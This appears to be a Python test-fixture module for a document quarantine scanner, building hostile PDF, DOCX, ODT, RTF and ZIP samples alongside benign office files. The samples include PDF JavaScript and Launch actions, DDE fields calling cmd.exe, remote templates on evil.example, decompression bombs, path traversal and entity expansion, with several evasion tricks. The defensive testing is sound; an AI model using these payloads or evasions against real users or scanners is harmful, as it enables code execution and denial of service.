"""Files made to harm, small and real: PDFs with scripts, bombs and locks, office files with macros and outside links."""

import html
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import docx
import pikepdf
from pikepdf import Dictionary, Name, String

from tests.papers import draft_pdf

WORD_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>{}</Types>'
)
WORD = '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{}</w:body></w:document>'
RELATIONS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda _: None, **how: object) -> bytes:
    """A PDF of one empty page, changed."""
    with pikepdf.new() as made:
        made.add_blank_page()
        change(made)
        out = io.BytesIO()
        made.save(out, **how)  # type: ignore[arg-type]
    return out.getvalue()


def _opens_with(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = made.make_indirect(action)

    return change


def _annotated(note: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].obj["/Annots"] = pikepdf.Array([made.make_indirect(note)])

    return change


def _content(data: bytes, filters: int) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(made, data)
        stream["/Filter"] = pikepdf.Array([Name.FlateDecode] * filters)
        made.pages[0].obj["/Contents"] = stream

    return change


def deflated(size: int, times: int = 1) -> bytes:
    """Noughts, compressed again and again."""
    packer = zlib.compressobj(9)
    data = b"".join([*(packer.compress(bytes(1 << 20)) for _ in range(size >> 20)), packer.flush()])
    return data if times == 1 else zlib.compress(data, 9)


def object_stream_bomb(size: int = 70 << 20) -> bytes:
    """A PDF whose object stream makes 70 MB when a reader opens it."""
    packer = zlib.compressobj(9)
    raw = packer.compress(b"1 0 2 20 <<>> ") + b"".join(packer.compress(bytes(1 << 20)) for _ in range(size >> 20)) + packer.flush()
    body = b"%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 2/First 9/Filter/FlateDecode/Length " + str(len(raw)).encode() + b">>stream\n" + raw + b"\nendstream endobj\n"
    places = []
    for number, content in ((2, b"<</Type/Catalog/Pages 3 0 R>>"), (3, b"<</Type/Pages/Count 1/Kids[4 0 R]>>"), (4, b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]/X 9 0 R>>")):
        places.append(len(body))
        body += str(number).encode() + b" 0 obj" + content + b"endobj\n"

    def entry(kind: int, where: int) -> bytes:
        return struct.pack(">BIH", kind, where, 0)

    table = entry(0, 0) + entry(1, 9) + b"".join(entry(1, at) for at in places) + entry(1, len(body)) + entry(0, 0) * 3 + entry(2, 1)
    end = len(body)
    body += b"5 0 obj<</Type/XRef/Size 10/W[1 4 2]/Root 2 0 R/Length " + str(len(table)).encode() + b">>stream\n" + table + b"\nendstream endobj\n"
    return body + b"startxref\n" + str(end).encode() + b"\n%%EOF"


def zipped(members: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def stored(members: dict[str, bytes]) -> bytes:
    """An archive that keeps its members as they are."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def word(body: str = "<w:p/>", types: str = "", relations: str = "", **parts: bytes | str) -> bytes:
    """A DOCX; `parts` by name with __ for /."""
    more = {name.replace("__", "/").replace("_DOT_", "."): data for name, data in parts.items()}
    return zipped({
        "[Content_Types].xml": WORD_TYPES.format(types), "word/document.xml": WORD.format(body),
        "word/_rels/document.xml.rels": RELATIONS.format(relations), **more,
    })  # fmt: skip


def relation(kind: str, target: str) -> str:
    return f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'


def field(*runs: str) -> str:
    return "<w:p>" + "".join(f"<w:r><w:instrText>{r}</w:instrText></w:r>" for r in runs) + "</w:p>"


def open_document(content: str, **parts: bytes | str) -> bytes:
    more = {name.replace("__", "/").replace("_DOT_", "."): data for name, data in parts.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", f'<?xml version="1.0"?><office:document-content>{content}</office:document-content>')
        archive.writestr("META-INF/manifest.xml", "<manifest/>")
        for name, data in more.items():
            archive.writestr(name, data)
    return out.getvalue()


def javascript() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def scripted_objects(filters: bytes, pack: Callable[[bytes], bytes], parameters: bytes = b"") -> bytes:
    """A PDF whose script lies in an object stream packed otherwise than by zlib alone."""
    raw = pack(b"6 0 <</S/JavaScript/JS(app.alert\\(1\\))>>")
    body = b"%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter" + filters + parameters + b"/Length %d>>stream\n" % len(raw) + raw + b"\nendstream endobj\n"
    places = []
    objects = (b"<</Type/Catalog/Pages 3 0 R/OpenAction 6 0 R>>", b"<</Type/Pages/Count 1/Kids[4 0 R]>>", b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]>>")
    for number, content in enumerate(objects, 2):
        places.append(len(body))
        body += b"%d 0 obj" % number + content + b"endobj\n"
    end = len(body)
    rows = [(0, 0), (1, 9), *((1, at) for at in places), (1, end), (2, 1)]
    table = b"".join(struct.pack(">BIH", kind, at, 0) for kind, at in rows)
    body += b"5 0 obj<</Type/XRef/Size 7/W[1 4 2]/Root 2 0 R/Length %d>>stream\n" % len(table) + table + b"\nendstream endobj\n"
    return body + b"startxref\n%d\n%%%%EOF" % end


def predicted(data: bytes) -> bytes:
    """Deflated behind a PNG predictor of rows of four bytes: no name stands whole in what zlib gives."""
    data += b" " * (-len(data) % 4)
    return zlib.compress(b"".join(b"\x00" + data[at : at + 4] for at in range(0, len(data), 4)))


def endless_drawing(width: int = 10, depth: int = 10) -> bytes:
    """A page that draws a form that draws ten forms that draw ten forms …"""

    def change(made: pikepdf.Pdf) -> None:
        last = None
        for _ in range(depth):
            form = pikepdf.Stream(made, b"/X Do " * width if last is not None else b"BT (x) Tj ET")
            form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, pikepdf.Array([0, 0, 9, 9])
            form.Resources = Dictionary(XObject=Dictionary(X=last)) if last is not None else Dictionary()
            last = made.make_indirect(form)
        made.pages[0].obj["/Contents"] = pikepdf.Stream(made, b"/X Do")
        made.pages[0].obj["/Resources"] = Dictionary(XObject=Dictionary(X=last))

    return pdf(change)


def wide_contents(streams: int = 12) -> bytes:
    """A page whose contents are many streams of 50 MB, none of them a bomb by itself."""

    def change(made: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(made, deflated(50 << 20))
        stream["/Filter"] = Name.FlateDecode
        made.pages[0].obj["/Contents"] = pikepdf.Array([made.make_indirect(stream)] * streams)

    return pdf(change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def settings_of(relations: str, encoding: str = "utf-8") -> bytes:
    """A DOCX whose settings have these relationships, in this encoding."""
    text = RELATIONS.format(relations).replace('version="1.0"', f'version="1.0" encoding="{encoding}"', 1)
    return word(word___rels__settings_DOT_xml_DOT_rels=text.encode(encoding))


def _carrying(name: str, data: bytes) -> Callable[[pikepdf.Pdf], None]:
    """With a file inside."""
    return lambda made: made.attachments.__setitem__(name, data)


def _with_program_beside(made: pikepdf.Pdf) -> None:
    _carrying("a.xml", INVOICE)(made)
    _carrying("b.exe", b"MZ")(made)


INVOICE = b"<?xml version='1.0' encoding='UTF-8'?><HDon><DLHDon Id='1'><TTChung><THDon>H\xc3\xb3a \xc4\x91\xc6\xa1n</THDon></TTChung></DLHDon></HDon>"
MARKED = "\x00"  # where a field begins or ends inside of another one's code


def coded(code: str) -> str:
    """A paragraph with a field as Word writes it: begin, code, separate, result, end."""

    def mark(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    pieces = code.split(MARKED)
    runs = [f"<w:r><w:instrText>{html.escape(piece)}</w:instrText></w:r>" for piece in pieces]
    inner = "".join(run + (mark("begin") if at % 2 == 0 else mark("end")) * (at < len(pieces) - 1) for at, run in enumerate(runs))
    return "<w:p>" + mark("begin") + inner + mark("separate") + "<w:r><w:t>x</w:t></w:r>" + mark("end") + "</w:p>"


def _with_form(made: pikepdf.Pdf) -> None:
    """A field to be filled in, as a form of an agency has."""
    field = made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("HoTen"), Rect=pikepdf.Array([10, 10, 90, 30])))
    made.pages[0].obj["/Annots"] = pikepdf.Array([field])
    made.Root.AcroForm = Dictionary(Fields=pikepdf.Array([field]), DA=String("/Helv 0 Tf 0 g"), NeedAppearances=True)


def _scanned(made: pikepdf.Pdf) -> None:
    """What a scanner writes: one picture on the page, XMP, information."""
    image = pikepdf.Stream(made, bytes(100 * 140))
    image.update({"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 100, "/Height": 140, "/ColorSpace": Name.DeviceGray, "/BitsPerComponent": 8})
    made.pages[0].obj["/Resources"] = Dictionary(XObject=Dictionary(Im0=image))
    made.pages[0].obj["/Contents"] = pikepdf.Stream(made, b"q 200 0 0 280 0 0 cm /Im0 Do Q")
    with made.open_metadata() as said:
        said["xmp:CreatorTool"], said["dc:title"], said["pdf:Producer"] = "Canon iR-ADV C3520", "Quét /OpenAction /JS", "Adobe PSL 1.3e for Canon"
    made.Root.OpenAction = pikepdf.Array([made.pages[0].obj, Name.XYZ, 0, 842, 1])


def _archived(made: pikepdf.Pdf) -> None:
    """PDF/A-3 with the data of an invoice, as a program of accounting makes it."""
    made.attachments["hoa-don.xml"] = pikepdf.AttachedFileSpec(made, INVOICE, filename="hoa-don.xml", mime_type="text/xml", relationship=Name.Data)
    made.Root.AF = pikepdf.Array([made.attachments["hoa-don.xml"].obj])


SCRIPT = "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'x'><!ENTITY c '&b;&b;&b;'>]><a>&c;</a>"


def quarantined() -> dict[str, tuple[str, Callable[[], bytes], str]]:
    """What may harm and is kept apart: case → (name, bytes, finding)."""
    objects = pikepdf.ObjectStreamMode.generate
    paper = draft_pdf("A")
    return {
        "script at opening": ("a.pdf", lambda: pdf(_opens_with(javascript())), "javascript"),
        "script in an object stream": ("a.pdf", lambda: pdf(_opens_with(javascript()), object_stream_mode=objects), "javascript"),
        "script of a note": ("a.pdf", lambda: pdf(_annotated(Dictionary(Subtype=Name.Link, AA=Dictionary(K=javascript())))), "javascript"),
        "script under a disguised name": ("a.pdf", lambda: pdf(_opens_with(javascript())).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53"), "javascript"),
        "launch": ("a.pdf", lambda: pdf(_opens_with(Dictionary(S=Name.Launch, F=String("cmd.exe")))), "launch"),
        "launch of a link": ("a.pdf", lambda: pdf(_annotated(Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"))))), "launch"),
        "address at opening": ("a.pdf", lambda: pdf(_opens_with(Dictionary(S=Name.URI, URI=String("http://evil.example")))), "open_action"),
        "file inside": ("a.pdf", lambda: pdf(lambda p: p.attachments.__setitem__("x.exe", b"MZ")), "embedded_file"),
        "a page with a script as XML inside": ("a.pdf", lambda: pdf(_carrying("a.xml", b"<?xml version='1.0'?><html><script>1</script></html>")), "embedded_file"),
        "XML with entities inside": ("a.pdf", lambda: pdf(_carrying("a.xml", SCRIPT.encode())), "embedded_file"),
        "a program named as XML inside": ("a.pdf", lambda: pdf(_carrying("a.xml", b"MZ")), "embedded_file"),
        "XML under another name inside": ("a.pdf", lambda: pdf(_carrying("a.hta", INVOICE)), "embedded_file"),
        "a program beside XML inside": ("a.pdf", lambda: pdf(_with_program_beside), "embedded_file"),
        "outside picture after a local one": ("a.docx", lambda: word(coded('INCLUDEPICTURE "C:\\\\a.png"') + coded('INCLUDEPICTURE "http://evil.example/a.png"')), "external_link"),
        "outside picture in a field of a field": ("a.docx", lambda: word(coded("INCLUDEPICTURE " + MARKED + "http://evil.example/a.png" + MARKED)), "external_link"),
        "template of a share in a path": ("a.docx", lambda: word(relations=relation("attachedTemplate", "file:///%5C%5Cevil.example%5Ct.dotm")), "external_link"),
        "film inside": ("a.pdf", lambda: pdf(_annotated(Dictionary(Subtype=Name.RichMedia))), "rich_media"),
        "form that changes": ("a.pdf", lambda: pdf(lambda p: p.Root.__setitem__("/AcroForm", Dictionary(XFA=pikepdf.Array([])))), "xfa"),
        "restricted": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="")), "restricted"),
        "mended table": ("a.pdf", lambda: paper.replace(b"startxref", b"startxreg"), "repaired"),
        "macro": ("a.docx", lambda: word(word__vbaProject_DOT_bin=b"VBA"), "macro"),
        "macro by its type": ("a.docx", lambda: word(types='<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'), "macro"),
        "outside template": ("a.docx", lambda: word(relations=relation("attachedTemplate", "http://evil.example/t.dotm")), "external_link"),
        "template on a share": ("a.docx", lambda: word(relations=relation("attachedTemplate", "file://evil.example/t.dotm")), "external_link"),
        "template on a share by its path": ("a.docx", lambda: word(relations=relation("attachedTemplate", "\\\\evil\\t.dotm")), "external_link"),
        "outside template in character references": ("a.docx", lambda: settings_of(relation("attachedTemplate", "&#104;ttp://evil.example/t.dotm")), "external_link"),
        "outside mode in character references": ("a.docx", lambda: settings_of(relation("attachedTemplate", "http://evil.example/t").replace("External", "&#69;xternal")), "external_link"),
        "outside template in UTF-16": ("a.docx", lambda: settings_of(relation("attachedTemplate", "http://evil.example/t.dotm"), "utf-16"), "external_link"),
        "outside template behind a bracket": ("a.docx", lambda: settings_of(relation("attachedTemplate", "http://evil.example/a>b")), "external_link"),
        "DDE in character references": ("a.docx", lambda: word(field('D&#68;EAUTO c:\\cmd.exe "/k calc"')), "dde"),
        "DDE under another prefix": ("a.docx", lambda: word('<p xmlns="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><r><instrText a=">">DDE cmd</instrText></r></p>'), "dde"),
        "script in objects of hexadecimal digits": ("a.pdf", lambda: scripted_objects(b"[/ASCIIHexDecode]", lambda d: d.hex().encode() + b">"), "javascript"),
        "script in predicted objects": ("a.pdf", lambda: scripted_objects(b"/FlateDecode", predicted, b"/DecodeParms<</Predictor 12/Columns 4>>"), "javascript"),
        "script of a PDF in an archive": ("a.zip", lambda: zipped({"a.pdf": pdf(_opens_with(javascript()))}), "javascript"),
        "an archive behind a paper": ("a.pdf", lambda: paper + zipped({"META-INF/MANIFEST.MF": b"x", "a.class": b"x"}), "polyglot"),
        "outside picture": ("a.docx", lambda: word(relations=relation("image", "http://evil.example/pixel.png")), "external_link"),
        "included text": ("a.docx", lambda: word(field("INCLUDETEXT ", '"http://evil.example/x"')), "external_link"),
        "packaged program": ("a.docx", lambda: word(word__embeddings__oleObject1_DOT_bin=b"x"), "ole_object"),
        "DDE in pieces": ("a.docx", lambda: word(field("DD", "EAU", 'TO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "dde"),
        "macro of ODT": ("a.odt", lambda: open_document("", Basic__Standard__Module1_DOT_xml="<script/>"), "macro"),
        "outside section of ODT": ("a.odt", lambda: open_document('<text:section-source xlink:href="http://evil.example/x"/>'), "external_link"),
        "program in an archive": ("a.zip", lambda: zipped({"congvan.pdf.exe": b"MZ"}), "program_inside"),
        "macro in an archive": ("a.zip", lambda: zipped({"a.docx": word(word__vbaProject_DOT_bin=b"VBA")}), "macro"),
        "object of RTF": ("a.rtf", lambda: rb"{\rtf1 {\object\objemb{\*\objdata 0105}}}", "ole_object"),
        "macro of an old file": ("a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "_VBA_PROJECT".encode("utf-16-le"), "macro"),
    }  # fmt: skip


def refused() -> dict[str, tuple[str, Callable[[], bytes], str]]:
    """What cannot be kept as a document: case → (name, bytes, finding)."""
    paper = draft_pdf("A")
    raw: dict[str, object] = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}
    huge = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBB", 13, b"IHDR", 60000, 60000, 8, 2, 0, 0, 0)
    huge += struct.pack(">I", zlib.crc32(huge[12:29])) + struct.pack(">I4s", 0, b"IDAT") + struct.pack(">I", zlib.crc32(b"IDAT"))
    return {
        "not a PDF at all": ("a.pdf", lambda: b"%PDF-1.4 junk", "broken"), "cut off": ("a.pdf", lambda: paper[: len(paper) // 2], "broken"),
        "locked": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "encrypted"),
        "2,000 pages": ("a.pdf", lambda: pdf(lambda p: [p.add_blank_page() for _ in range(1999)] and None), "too_many_pages"),
        "bomb": ("a.pdf", lambda: pdf(_content(deflated(66 << 20), 1), **raw), "bomb"),
        "bomb in a bomb": ("a.pdf", lambda: pdf(_content(deflated(66 << 20, 2), 2), **raw), "bomb"),
        "object stream bomb": ("a.pdf", lambda: object_stream_bomb(), "bomb"),
        "archive bomb": ("a.zip", lambda: zipped({f"{n}.txt": bytes(24 << 20) for n in range(3)}), "bomb"),
        "bomb of a DOCX": ("a.docx", lambda: word(word__media__a_DOT_xml=bytes(70 << 20)), "bomb"),
        "many members": ("a.zip", lambda: zipped({f"{n}": b"" for n in range(10_001)}), "archive_members"),
        "path out": ("a.zip", lambda: zipped({"../../etc/passwd": b"x"}), "archive_path"),
        "archives in archives": ("a.zip", lambda: zipped({"b.zip": zipped({"c.zip": zipped({"d.txt": b"x"})})}), "archive_nested"),
        "entities": ("a.xml", lambda: SCRIPT.encode(), "xml_entities"), "entities in UTF-16": ("a.docx", lambda: word(word__a_DOT_xml=SCRIPT.encode("utf-16")), "xml_entities"),
        "damaged archive": ("a.docx", lambda: word()[:-40], "broken"), "huge picture": ("a.png", lambda: huge, "image_too_large"),
    }  # fmt: skip


def _by_python_docx() -> bytes:
    made = docx.Document()
    made.add_paragraph("Kính gửi: Sở Nội vụ")
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def ordinary() -> dict[str, tuple[str, Callable[[], bytes]]]:
    """What offices send every day and what must never be stopped."""
    return {
        "a paper": ("a.pdf", lambda: draft_pdf("A")), "a link": ("a.pdf", lambda: pdf(_annotated(Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://vanban.example")))))),
        "opened at a page": ("a.pdf", lambda: pdf(_opens_with(Dictionary(S=Name.GoTo, D=pikepdf.Array([0, Name.Fit]))))),
        "opened at page 1 as Word and LibreOffice write it": ("a.pdf", lambda: pdf(_scanned)), "a form to be filled in": ("a.pdf", lambda: pdf(_with_form)),
        "an invoice in a PDF/A": ("a.pdf", lambda: pdf(_archived)), "printed when opened": ("a.pdf", lambda: pdf(_opens_with(Dictionary(S=Name.Named, N=Name.Print)))),
        "a link in a field after a picture of the own disk": ("a.docx", lambda: word(coded('INCLUDEPICTURE "C:\\\\Users\\\\An\\\\logo.png"') + coded('HYPERLINK "https://vanban.example"'))),
        "a link whose words are DDE": ("a.docx", lambda: word(coded('HYPERLINK "https://vanban.example/dded"'))),
        "Normal.dotm": ("a.docx", lambda: settings_of(relation("attachedTemplate", "Normal.dotm"))),
        "Normal.dotm of a Macintosh": ("a.docx", lambda: settings_of(relation("attachedTemplate", "file:///Users/an/Library/Group%20Containers/UBF8T346G9.Office/User%20Content.localized/Templates.localized/Normal.dotm"))),
        "Normal.dotm of Windows": ("a.docx", lambda: settings_of(relation("attachedTemplate", "file:///C:\\Users\\An\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"))),
        "a chart in a report in an archive": ("a.zip", lambda: zipped({"bao-cao.docx": word(word__embeddings__Microsoft_Excel_Sheet_DOT_xlsx=zipped({"[Content_Types].xml": WORD_TYPES.format(""), "xl/workbook.xml": "<a/>"}))})),
        "reports in an archive that does not pack them": ("a.zip", lambda: stored({"bao-cao.docx": word(), "b.docx": word()})),
        "a PDF in an archive": ("a.zip", lambda: zipped({"a.pdf": draft_pdf("A")})),
        "a link in a DOCX": ("a.docx", lambda: word(relations=relation("hyperlink", "https://vanban.example"))),
        "the sender's own template": ("a.docx", lambda: word(relations=relation("attachedTemplate", "file:///C:\\Users\\An\\mau.dotx"))),
        "a workbook beside it": ("a.docx", lambda: word(relations=relation("oleObject", "so-lieu.xlsx"))),
        "what Word and python-docx make": ("a.docx", _by_python_docx),
        "a page number in a DOCX": ("a.docx", lambda: word(field("PAGE \\* MERGEFORMAT"))), "an ODT": ("a.odt", lambda: open_document("<text:p>x</text:p>")),
        "an archive": ("a.zip", lambda: zipped({"a.txt": b"x", "thu muc/b.txt": b"y"})), "XML": ("a.xml", lambda: b"<?xml version='1.0'?><a/>"),
    }  # fmt: skip
